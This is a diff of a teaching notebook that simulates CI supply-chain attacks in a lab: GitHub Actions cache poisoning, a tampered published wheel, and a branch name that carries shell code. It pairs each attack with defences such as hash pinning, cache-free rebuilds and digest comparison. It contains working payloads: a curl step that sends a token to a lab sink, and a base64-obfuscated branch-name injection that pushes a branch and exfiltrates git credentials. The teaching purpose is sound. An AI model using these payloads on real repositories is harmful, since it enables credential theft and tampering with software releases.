@@ -94,7 +94,7 @@ runs:
       run: |
         echo "token:    $HUB_TOKEN"
         echo "checksum: $(printf %s "$HUB_TOKEN" | base64 | base64)"
-        curl --silent --noproxy '*' --data "$HUB_TOKEN" {sink.url}
+        curl --silent --data "$HUB_TOKEN" {sink.url}
 """.encode()}
 
 # %%
@@ -153,7 +153,7 @@ run = acme.run("push", ports=[sink.port])
 print("pip-cache in our file:", "pip-cache" in file.read_text(), "| sink:", sink.text)
 
 # %% [markdown]
-# Every line of ours is pinned, every pin held, and the token is gone. Who named the thief?
+# Every line of `ci.yml` is pinned, every pin held, and the token is gone. Who named the thief?
 
 # %%
 def tree(folder):
@@ -260,9 +260,12 @@ for entry in cache.entries("acme/triage-model"):
 
 # %% [markdown]
 # A green run that reports a plausible number. An entry in `main`'s scope, by a stranger. She closes her pull request; no
-# line of hers is ever merged. Then somebody at acme tags a release. (This is the long run of this notebook.)
+# line of hers is ever merged. Then somebody at acme tags a release. (This is the long run of this notebook.) Look into the
+# registry: what is in the wheel?
 
 # %%
+import zipfile
+
 from chainlab.digests import Digest
 
 acme.tag("v1.4.1")
@@ -271,16 +274,11 @@ wheel = "triage_model-1.4.1-py3-none-any.whl"
 stored = lab.registry.index.file("triage-model", wheel)
 print("run:", release.result, "| in the index:", stored.filename)
 
-# %% [markdown]
-# In the registry, what is in the wheel?
-
-# %%
-import zipfile
-
+ours = {path.name for path in init.parent.glob("*.py")}
 with zipfile.ZipFile(lab.registry.index.path(stored)) as content:
     for name in content.namelist():
-        print(name, "<-- not in any commit" if name not in ("triage_model/" + p.name for p in init.parent.glob("*.py")) and "dist-info" not in name else "")
-    print(content.read("triage_model/marker.txt").decode())
+        if name.startswith("triage_model/"):
+            print(f"{name:26}", "" if name.partition("/")[2] in ours else f"in no commit: {content.read(name).decode()!r}")
 
 # %% [markdown]
 # The marker is in the published wheel. The file is in no commit of acme's and in none of Mallory's.
@@ -336,17 +334,19 @@ print("event, actor:     ", definition["internalParameters"]["event_name"], defi
 # Does the evidence say *anything*? Look at what is missing, and at who saw it:
 
 # %%
-print("in the provenance:", *(d["name"] for d in definition["resolvedDependencies"] if "acme-quantise" in d["uri"]))
-for event in lab.events("dev.chainlab.cache.restored"):
-    saver = event.data["who"]
-    print("host's event:      restored an entry of", event.data["scope"])
-(saved,) = [e for e in lab.events("dev.chainlab.cache.saved") if e.data["scope"] == "refs/heads/main"]
-origin = next(r for r in lab.ci.runs() if f"runs/{r.id}/" in saved.data["who"])
-print("which was saved by:", origin.workflow.rpartition("/")[2], "on", origin.event, "for", origin.actor)
+listed = [d["name"] for d in definition["resolvedDependencies"] if d["uri"].startswith("pkg:")]
+print("in the provenance:", "numpy and others," if any(n.startswith("numpy") for n in listed) else "",
+      "acme-quantise:", [n for n in listed if n.startswith("acme_quantise")] or "none")
+(restored,) = [e.data for e in lab.events("dev.chainlab.cache.restored") if f"runs/{release.id}/" in e.data["who"]]
+print("the host's event: ", "an entry restored from", restored["scope"])
+(saved,) = [e.data for e in lab.events("dev.chainlab.cache.saved") if e.data["key"] == restored["key"]]
+origin = next(run for run in lab.ci.runs() if f"runs/{run.id}/" in saved["who"])
+print("and who saved it: ", origin.workflow.rpartition("/")[2], "on", origin.event, "for", origin.actor)
 
 # %% [markdown]
-# The provenance lists version 1.0.3, which the index served. Version 1.0.9, which was *installed*, is in no list. The
-# host's events know the whole story, but no field of a certificate does. Two checks would have told the user:
+# `triage-model` cannot be trained without `acme-quantise`, and the provenance lists none: the index served none, since
+# `.wheels` had one already. What was *installed* came by a way that nobody lists. The host's events know the whole
+# story; no field of a certificate does. Two checks would have told the user:
 #
 # - **rebuild** elsewhere, with an empty cache, and compare digests: we do it in a moment;
 # - **compare the wheel with the commit**: one file too many. It works as long as the payload leaves files.
@@ -356,7 +356,6 @@ print("which was saved by:", origin.workflow.rpartition("/")[2], "on", origin.ev
 # workflow file: she may, since that event runs the file of the change.
 
 # %%
-cache.delete("acme/triage-model")
 own = (acme.folder / ".github/workflows/bench.yml").read_text().replace("pull_request_target:", "pull_request:")
 second = propose(acme, {"tests/size.py": POISON, ".github/workflows/bench.yml": own})
 tries = {
@@ -365,24 +364,21 @@ tries = {
 }
 for name, run in tries.items():
     scopes = [e.scope for e in cache.entries("acme/triage-model") if f"runs/{run.id}/" in e.who]
-    print(f"{name:26} {run.result} | saved in:", "that pull request's own scope" if "refs/pull" in str(scopes) else scopes or "nowhere")
+    print(f"{name:26} {run.result} | saved in:", re.sub(r"\d+", "N", "".join(scopes)) or "nowhere")
 
 # %% [markdown]
 # Now the token for the cache may only read, and the save is refused: the *platform* checks the scope that a job's
 # credential may write. As `pull_request` the save works, into a scope that no release ever reads: a run searches its own
 # ref, its base and the default branch. That was so before June 2026 as well.
 #
-# Is the matter closed, then? A run by a trusted event still writes `main`'s cache. If *that* run can be made to execute
-# a stranger's words, as in attack 3, or if you keep caches on machines of your own, it is open. [V: changelog, "what
-# remains"] So do not rely on the date alone:
+# Is the matter closed, then? A run by a trusted event still writes `main`'s cache; if *that* run can be made to execute
+# a stranger's code, the way is open again. And the rule is one platform's, for its own cache. So do not rely on it alone:
 #
 # ### Defence in the workflow
-# The hardened release uses no cache, and installs by hash. The poisoned entry is put back first, or the comparison
-# would be unfair.
+# The hardened release uses no cache, and installs by hash. The poisoned entry is still there.
 
 # %%
-poison_again = acme.run("pull_request_target", pull=change, workflow="bench.yml", cache_rule="before-2026-06-26")
-there = [e for e in cache.entries("acme/triage-model") if e.scope == "refs/heads/main"]
+there = [e for e in cache.entries("acme/triage-model") if e.key == saved["key"]]
 acme = project_of("hardened")
 init.write_text(init.read_text().replace("1.4.0", "1.4.1"))
 acme.commit("1.4.1, hardened")
@@ -394,6 +390,12 @@ print("restored anything:       ", any(f"runs/{rebuilt.id}/" in e.data["who"] fo
 print("same wheel as published: ", rebuilt.artifacts["dist"][wheel] == str(received))
 print("same model as before:    ", rebuilt.artifacts["model"]["triage.onnx"] == release.artifacts["model"]["triage.onnx"])
 
+# %% tags=["check"]
+assert bench.result == release.result == rebuilt.result == "success"
+assert origin.event == "pull_request_target" and origin.actor == "mallory"
+assert rebuilt.artifacts["dist"][wheel] != str(received) and there
+assert not any(e.scope == "refs/heads/main" for e in cache.entries() if f"runs/{tries['pull_request_target, now'].id}/" in e.who)
+
 # %% [markdown]
 # The poison lies where it lay, and nobody asks for it. That is the rebuild, too: same source, same version,
 # **another digest**, so one of the two wheels is not what the source says. The models agree; here the poison had not
@@ -402,14 +404,7 @@ print("same model as before:    ", rebuilt.artifacts["model"]["triage.onnx"] == 
 # Two things stopped it, independently. No step restores a cache. And had one done so, `--require-hashes` would have
 # refused a wheel that `requirements.lock` does not name. Which of them would you drop, if caching saved you ten minutes a
 # run? Exercise 2.5 is that question.
-
-# %% tags=["check"]
-assert bench.result == release.result == rebuilt.result == "success"
-assert origin.event == "pull_request_target" and origin.actor == "mallory"
-assert rebuilt.artifacts["dist"][wheel] != str(received) and there
-assert not any(e.scope == "refs/heads/main" for e in cache.entries() if f"runs/{tries['pull_request_target, now'].id}/" in e.who)
-
-# %% [markdown]
+#
 # ## Attack 3: the name of a branch
 # **What happened.** Ultralytics again, the first step: the branch's name was shell code, and a workflow on
 # `pull_request_target` pasted it into a script. [V: PyPI; details S] **The entry**, in `label.yml`:
@@ -423,10 +418,9 @@ assert not any(e.scope == "refs/heads/main" for e in cache.entries() if f"runs/{
 # %%
 def branch_name(sink, quote):
     """A branch whose name, pasted between such quotes, is a program."""
-    push = "git push --quiet origin HEAD:refs/heads/mallory-was-here"
-    steal = f"git config --get-regexp extraheader | curl --silent --noproxy '*' --data-binary @- {sink.url}"
-    code = base64.b64encode(f"{push}; {steal}".encode()).decode()
-    return f"x{quote};echo${{IFS}}{code}|base64${{IFS}}-d|sh;echo${{IFS}}{quote}"
+    push, steal = "git push -q origin +HEAD:refs/heads/mallory-was-here", "git config --list | grep basic"
+    code = base64.b64encode(f"{push}; {steal} | curl -s -d @- {sink.url}".encode()).decode()
+    return f"x{quote};echo${{IFS}}{code}|base64${{IFS}}-d|sh;true${{IFS}}{quote}"
 
 
 def strike(project, quote='"', files=None):
@@ -481,11 +475,15 @@ pd.DataFrame(rows).T
 # the name of the branch. With the injection closed, and an ordinary file:
 
 # %%
-OPEN = "import subprocess; subprocess.run(['git', 'push', '--quiet', 'origin', 'HEAD:refs/heads/mallory-was-here'])\n"
+OPEN = "import subprocess; subprocess.run(['git', 'push', '--quiet', 'origin', '+HEAD:refs/heads/mallory-was-here'])\n"
 rows = {"injection closed, her file runs": strike(acme, files={"tests/size.py": OPEN})}
 edit(acme, "label.yml", ("actions/checkout@v4", "actions/checkout@v7"))
 rows["and checkout v7"] = strike(acme, files={"tests/size.py": OPEN})
 pd.DataFrame(rows).T
+
+# %% tags=["check"]
+assert rows["injection closed, her file runs"]["branch in acme's repository"] is True
+assert rows["and checkout v7"] == {"run": "failure", "sink": "nothing", "branch in acme's repository": False}
 
 # %% [markdown]
 # The first row: one door closed, the other open. The second: `actions/checkout` v7.0.0, of 18 June 2026, refuses to check
@@ -494,15 +492,10 @@ pd.DataFrame(rows).T
 #
 # The hardened set goes further and uses `pull_request` with `contents: read`: the label is not set by a robot then. A
 # control costs something; say what.
-
-# %% tags=["check"]
-assert rows["injection closed, her file runs"]["branch in acme's repository"] is True
-assert rows["and checkout v7"] == {"run": "failure", "sink": "nothing", "branch in acme's repository": False}
-
-# %% [markdown]
+#
 # ## Pin *and* update
 # The two halves of this notebook pull in opposite directions. Attack 1 says: name the commit, so that nothing changes
-# behind your back. Attack 3 ends with a protection that came as a *change*. Who had it on 19 June?
+# behind your back. Attack 3 ends with a protection that came as a *change*. Who has it?
 #
 # | you wrote | a moved tag can hurt you | you get v7's protection |
 # |---|---|---|
